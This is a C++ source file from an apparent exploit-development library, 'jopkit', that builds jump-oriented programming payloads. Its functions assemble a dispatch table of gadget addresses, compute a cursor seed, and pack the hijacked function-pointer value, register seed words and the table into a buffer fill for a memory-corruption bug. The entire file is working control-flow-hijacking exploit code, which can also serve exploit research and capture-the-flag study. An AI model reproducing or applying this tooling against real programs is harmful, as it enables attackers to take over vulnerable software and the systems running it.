#include "jopkit/payload.hpp"

#include <algorithm>
#include <cstdio>

namespace jopkit {

namespace {

std::string hex(uint64_t v) {
  char b[32];
  std::snprintf(b, sizeof b, "0x%llx", static_cast<unsigned long long>(v));
  return b;
}

}  // namespace

uint64_t DispatchTable::span_lo() const {
  if (entries.empty()) return base_addr;
  return std::min(entry_addr(0), entry_addr(entries.size() - 1));
}

uint64_t DispatchTable::span_hi() const {
  if (entries.empty()) return base_addr;
  return std::max(entry_addr(0), entry_addr(entries.size() - 1)) + entry_size;
}

DispatchTable build_dispatch_table(const ChainPlan& plan, uint64_t base) {
  const DispatcherGadget& d = plan.dispatcher;
  DispatchTable t;
  t.entry_size = xlen_bytes(plan.xlen);
  if (base % t.entry_size != 0)
    throw PayloadError(PayloadError::Kind::Misaligned,
                       "table base " + hex(base) + " is not " +
                           std::to_string(t.entry_size) + "-byte aligned");
  t.base_addr = base;
  t.stride = d.stride;

  for (const ChainStep& s : plan.steps)
    for (uint32_t i = 0; i < s.repeat; ++i) t.entries.push_back(s.gadget_addr);

  // The dispatcher fetches entry i from cursor + load_offset after advancing
  // the cursor i+1 times (pre-increment) or i times; seed the cursor so the
  // first fetch lands exactly on entries[0].
  t.cursor_seed = base - d.load_offset - (d.pre_increment ? d.stride : 0);
  return t;
}

uint64_t choose_table_base(const VulnSpec& vuln, uint32_t entry_size) {
  if (vuln.table_addr) return *vuln.table_addr;
  const uint64_t after_ptr =
      vuln.buffer_addr + vuln.pointer_offset + entry_size;
  return (after_ptr + entry_size - 1) & ~static_cast<uint64_t>(entry_size - 1);
}

Payload build_payload(const ChainPlan& plan, const DispatchTable& table,
                      const VulnSpec& vuln) {
  Payload p;
  p.buffer_addr = vuln.buffer_addr;
  p.pointer_offset = vuln.pointer_offset;
  p.pointer_value = plan.initializer.gadget_addr;
  p.table_addr = table.base_addr;

  const uint32_t ptr_size = table.entry_size;
  if (vuln.pointer_offset + ptr_size > vuln.capacity)
    throw PayloadError(PayloadError::Kind::CapacityExceeded,
                       "pointer offset falls outside the writable window");

  p.buffer_fill.assign(vuln.capacity, 0);
  auto in_buffer = [&](uint64_t addr, uint64_t len) {
    return addr >= vuln.buffer_addr &&
           addr + len <= vuln.buffer_addr + vuln.capacity;
  };
  auto poke = [&](uint64_t addr, uint64_t value, uint32_t width) {
    for (uint32_t i = 0; i < width; ++i)
      p.buffer_fill[addr - vuln.buffer_addr + i] =
          static_cast<uint8_t>(value >> (8 * i));
  };

  poke(vuln.buffer_addr + vuln.pointer_offset, p.pointer_value, ptr_size);

  // Seed words land where the initializer's loads will look for them.
  const SeedSlot seeds[2] = {plan.dispatcher_slot, plan.cursor_slot};
  const uint64_t values[2] = {plan.dispatcher.reentry_addr, table.cursor_seed};
  for (int i = 0; i < 2; ++i) {
    auto it = vuln.call_context.find(seeds[i].base_reg);
    if (it == vuln.call_context.end())
      throw PayloadError(PayloadError::Kind::SeedOutsideBuffer,
                         std::string("victim register ") +
                             reg_name(seeds[i].base_reg) +
                             " has no known value at the hijacked call");
    const uint64_t addr = it->second + seeds[i].offset;
    if (!in_buffer(addr, ptr_size))
      throw PayloadError(PayloadError::Kind::SeedOutsideBuffer,
                         "seed word at " + hex(addr) +
                             " is outside the writable window");
    poke(addr, values[i], ptr_size);
    p.seed_words.emplace_back(addr, values[i]);
  }

  // Table blob, independent of placement.
  const uint64_t lo = table.span_lo();
  const uint64_t hi = table.span_hi();
  p.table_span_addr = lo;
  p.table_blob.assign(hi - lo, 0);
  for (size_t i = 0; i < table.entries.size(); ++i) {
    const uint64_t at = table.entry_addr(i) - lo;
    for (uint32_t b = 0; b < table.entry_size; ++b)
      p.table_blob[at + b] =
          static_cast<uint8_t>(table.entries[i] >> (8 * b));
  }

  p.table_in_buffer = in_buffer(lo, hi - lo);
  if (p.table_in_buffer) {
    std::copy(p.table_blob.begin(), p.table_blob.end(),
              p.buffer_fill.begin() + (lo - vuln.buffer_addr));
  } else if (!vuln.table_addr) {
    // Default placement must stay inside the buffer; a split table is only
    // legal when the vuln spec names its address.
    throw PayloadError(PayloadError::Kind::CapacityExceeded,
                       "dispatch table does not fit the writable window");
  }
  return p;
}

}  // namespace jopkit
